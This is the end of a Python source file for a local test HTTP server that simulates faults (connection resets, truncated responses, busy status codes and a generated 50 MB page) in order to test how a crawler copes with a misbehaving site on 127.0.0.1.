        if kind in ("reset", "truncated"):
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(page)))
            self.send_header("Connection", "close")
            self.end_headers()
            self._write(page[: len(page) // 2])
            self.close_connection = True
            if kind == "reset":
                time.sleep(0.05)
                self._reset()
        else:
            self._send(int(kind), b"busy", "text/plain", {"Retry-After": "1"})

    def _big(self, *, chunked: bool) -> None:
        """50 MB of article-looking HTML, generated on the fly in 64 KiB pieces."""
        head = self.fault.big_page_head()
        piece = (f"<p>{_PROSE}</p>\n".encode()) * 400
        piece = piece[: 64 * 1024]
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Connection", "close")
        if chunked:
            self.send_header("Transfer-Encoding", "chunked")
        else:
            self.send_header("Content-Length", str(BIG_PAGE_BYTES))
        self.end_headers()
        self.close_connection = True
        left = BIG_PAGE_BYTES
        first = True
        while left > 0 and not self.fault._stop.is_set():
            data = head if first else piece[: min(len(piece), left)]
            first = False
            left -= len(data)
            out = b"%x\r\n%s\r\n" % (len(data), data) if chunked else data
            if not self._write(out):
                return
        if chunked:
            self._write(b"0\r\n\r\n")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Serve the misbehaving test site on 127.0.0.1.")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--die-after", type=int, help="stop accepting after this many requests")
    parser.add_argument("--slow-seconds", type=float, default=8.0)
    parser.add_argument("--minimal", action="store_true", help="no sitemaps, no article links")
    args = parser.parse_args(argv)
    server = FaultServer(
        args.port, die_after=args.die_after, slow_seconds=args.slow_seconds, minimal=args.minimal
    )
    print(server.url, flush=True)
    server.start()
    try:
        while server.thread.is_alive():
            server.thread.join(1)
    except KeyboardInterrupt:
        pass
    finally:
        server.stop()
        print(f"{server.total} requests; off-host: {len(server.offsite)}", file=sys.stderr)
        for path, count in sorted(server.hits.items()):
            print(f"{count:5d} {path}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
